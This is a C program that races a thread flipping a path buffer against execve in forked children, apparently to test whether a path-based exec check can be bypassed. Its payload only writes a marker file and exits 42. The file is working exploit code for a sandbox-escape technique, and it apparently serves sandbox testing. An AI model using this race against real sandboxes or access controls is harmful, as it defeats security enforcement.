/* The execve check-then-use race: a thread flips the path buffer between
 * an allowed program and a payload while the main thread execs it, in a
 * bounded number of fresh children. Without arguments it is the payload:
 * it leaves "payload-ran" in its working directory and exits 42.
 * Usage: exec_race ALLOWED PAYLOAD FORKS; prints "won N" or "lost". */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char buf[4096] __attribute__((aligned(64)));
static const char *allowed, *payload;

static void *flip(void *arg)
{
	(void)arg;
	size_t na = strlen(allowed) + 1, np = strlen(payload) + 1;
	for (;;) {
		memcpy(buf, payload, np);
		for (volatile int k = 0; k < 30; k++)
			;
		memcpy(buf, allowed, na);
		for (volatile int k = 0; k < 30; k++)
			;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc < 4) {
		int fd = open("payload-ran", O_CREAT | O_WRONLY, 0644);
		if (fd >= 0)
			close(fd);
		return 42;
	}
	allowed = argv[1];
	payload = argv[2];
	if (strlen(allowed) >= sizeof(buf) || strlen(payload) >= sizeof(buf))
		return 2;
	int forks = atoi(argv[3]);
	for (int i = 0; i < forks; i++) {
		pid_t c = fork();
		if (c < 0)
			return 2;
		if (c == 0) {
			strcpy(buf, allowed);
			pthread_t t;
			pthread_create(&t, NULL, flip, NULL);
			char *av[] = {"x", NULL}, *ev[] = {NULL};
			for (int j = 0; j < 50; j++)
				execve(buf, av, ev);
			_exit(1);
		}
		int st;
		waitpid(c, &st, 0);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 42) {
			printf("won %d\n", i);
			return 0;
		}
	}
	printf("lost\n");
	return 1;
}
